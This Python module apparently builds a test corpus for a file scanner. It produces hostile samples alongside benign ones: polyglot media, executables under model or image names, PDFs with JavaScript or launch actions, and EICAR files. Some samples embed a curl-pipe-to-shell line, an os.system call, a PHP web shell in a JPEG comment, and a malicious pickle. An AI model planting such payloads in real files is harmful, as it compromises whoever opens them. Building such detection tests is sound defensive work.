"""Media, documents and executables: files that are two things at once, and programs in a model's clothes."""

import base64
import struct
import zlib
from collections.abc import Iterator

from tests.corpus.gadgets import SYSTEM
from tests.corpus.hostile_pickles import reduced_4
from tests.corpus.sample import COMMAND, HOST, Sample, benign, hostile
from tests.corpus.zips import zip_of

BAD = reduced_4(SYSTEM)
ZIP = zip_of({"weights.pkl": BAD})
# https://www.eicar.org, in two halves so that no scanner takes this source for a virus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + more
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 14))
        + png_chunk(b"IEND", b"")
    )


PNG = png()
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
# The smallest baseline image: one gray block.
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////"
    "wAALCAABAAEBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAACf/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AKp//2Q=="
)


def riff(kind: bytes, chunks: list[tuple[bytes, bytes]]) -> bytes:
    body = kind + b"".join(name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


WAV = riff(b"WAVE", [(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (b"data", bytes(32))])
WEBP = riff(b"WEBP", [(b"VP8L", b"\x2f\x00\x00\x00\x00\x07\x10\x11\x11\x88\x88\xfe\x07\x00")])


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


MP4 = (
    _box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + _box(b"moov", _box(b"mvhd", bytes(100))) + _box(b"mdat", bytes(16))
)
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + (b"\xff\xfb\x90\x00" + bytes(413)) * 3


def pdf(catalog: str = "", more: str = "") -> bytes:
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
        *([more] if more else []),
    ]
    out, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    start, count = len(out), len(bodies) + 1
    return (
        out
        + f"xref\n0 {count}\n0000000000 65535 f \n{table}".encode()
        + f"trailer\n<< /Size {count} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    )


def elf() -> bytes:
    """A header that names one empty segment; it has no instructions."""
    return (
        b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        + bytes(56)
    )


def windows() -> bytes:
    return b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x22)


PROGRAMS = {
    "elf": elf(),
    "windows": windows(),
    "mach-o": struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0),
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32),
    "wasm": b"\0asm\x01\0\0\0",
    "python-bytecode": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(20),
    "dex": b"dex\n035\0" + bytes(104),
}


def samples() -> Iterator[Sample]:
    images = {
        "cat.png": PNG,
        "cat.gif": GIF,
        "cat.jpg": JPEG,
        "cat.webp": WEBP,
        "voice.wav": WAV,
        "clip.mp4": MP4,
        "song.mp3": MP3,
    }
    yield from benign(
        "media-polyglot",
        "assets of a card",
        {f"assets-{name.rpartition('.')[2]}/{name}": data for name, data in images.items()},
    )
    behind = {
        f"{what}-behind-{name.rpartition('.')[2]}/{name}": data + tail
        for name, data in images.items()
        for what, tail in _tails().items()
    }
    yield from hostile("media-polyglot", "content behind the last byte of an image", behind)
    yield from hostile("media-disguise", "something else under an image's name, or the other way round", _disguises())
    yield from benign("media-disguise", "an icon", {"icon/favicon.png": PNG})
    yield from hostile("media-structure", "payloads inside of the format", _inside())
    yield from benign("media-structure", "a text chunk", {"text/plot.png": png(png_chunk(b"tEXt", b"Software\0Matplotlib"))})
    yield from hostile("executable", "programs", {f"{what}/tool": data for what, data in PROGRAMS.items()})
    suffixes = {
        "elf": "libtool.so",
        "windows": "tool.exe",
        "python-bytecode": "__pycache__/model.cpython-311.pyc",
        "java": "Main.class",
    }
    yield from hostile(
        "executable", "programs by their names", {f"named-{what}/{name}": PROGRAMS[what] for what, name in suffixes.items()}
    )
    disguised = {
        f"{what}-as-{name.replace('.', '-')}/{name}": data
        for what, data in PROGRAMS.items()
        for name in ("pytorch_model.bin", "README.md")
    }
    yield from hostile("executable", "programs in disguise", disguised)
    yield from benign("executable", "a table of bytes", {"bytes/vocab.bin.txt": "0x7f 0x45 0x4c 0x46\n"})
    yield from hostile("pdf", "actions and embedded files", _documents())
    yield from benign("pdf", "a paper", {"paper/paper.pdf": pdf()})
    yield from hostile("antivirus-test", "the EICAR file", _eicar())
    yield from benign("antivirus-test", "about it", {"about/notes.txt": "The EICAR test file is 68 bytes long.\n"})


def _tails() -> dict[str, bytes]:
    return {
        "pickle": BAD,
        "zip": ZIP,
        "script": f"\n#!/bin/sh\ncurl http://{HOST}/x | sh\n{COMMAND}\n".encode(),
        "elf": elf(),
    }


def _disguises() -> dict[str, bytes]:
    return {
        "pickle/cat.png": BAD,
        "zip/cat.jpg": ZIP,
        "elf/cat.gif": elf(),
        "html/cat.png": b"<html><script>alert(1)</script></html>",
        "python/cat.jpg": f"import os\nos.system({COMMAND!r})\n".encode(),
        "image-as-model/pytorch_model.bin": PNG,
        "image-as-python/modeling_tiny.py": PNG,
        "pdf-as-json/config.json": pdf(),
        "gif-script/cat.gif": b"GIF89a=1;alert(1);//" + GIF[6:],
        "bmp-script/cat.bmp": b"BM=1;alert(1);//" + bytes(40),
    }


def _inside() -> dict[str, bytes]:
    return {
        "chunk-pickle/cat.png": png(png_chunk(b"coRp", BAD)),
        "chunk-zip/cat.png": png(png_chunk(b"zTXt", ZIP)),
        "chunk-checksum/cat.png": PNG[:29] + b"\1\2\3\4" + PNG[33:],
        "chunk-length/cat.png": PNG[:33] + b"\xff\xff\xff\xff" + PNG[37:],
        "truncated/cat.png": PNG[:-12],
        "comment-script/cat.jpg": JPEG[:2]
        + b"\xff\xfe"
        + struct.pack(">H", 2 + 31)
        + b"<?php system($_GET['corpus']);?>"[:31]
        + JPEG[2:],
        "comment-pickle/cat.jpg": JPEG[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(BAD)) + BAD + JPEG[2:],
        "wav-chunk/voice.wav": riff(
            b"WAVE", [(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (b"corp", BAD), (b"data", bytes(8))]
        ),
        "riff-size/voice.wav": WAV[:4] + struct.pack("<I", 9) + WAV[8:],
        "mp4-box/clip.mp4": MP4 + _box(b"free", BAD),
        "gif-comment/cat.gif": GIF[:-1] + b"!\xfe" + bytes([len(BAD)]) + BAD + b"\0;",
    }


def _documents() -> dict[str, bytes]:
    return {
        "javascript/paper.pdf": pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "javascript-object/paper.pdf": pdf("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>"),
        "launch/paper.pdf": pdf("/OpenAction << /S /Launch /F (tool.exe) >>"),
        "additional-actions/paper.pdf": pdf("/AA << /O << /S /URI /URI (http://corpus.invalid/) >> >>"),
        "escaped-name/paper.pdf": pdf("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
        "embedded/paper.pdf": pdf(
            "/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>", "<< /Type /Filespec /F (x.exe) >>"
        ),
        "pickle-after/paper.pdf": pdf() + BAD,
        "zip-after/paper.pdf": pdf() + ZIP,
        "pickle-before/paper.pdf": BAD + pdf(),
    }


def _eicar() -> dict[str, bytes]:
    return {
        "com/eicar.com": EICAR,
        "text/notes.txt": EICAR,
        "model/pytorch_model.bin": EICAR,
        "zip/data.zip": zip_of({"eicar.com": EICAR}),
        "zip-zip/data.zip": zip_of({"inner.zip": zip_of({"eicar.com": EICAR})}),
    }
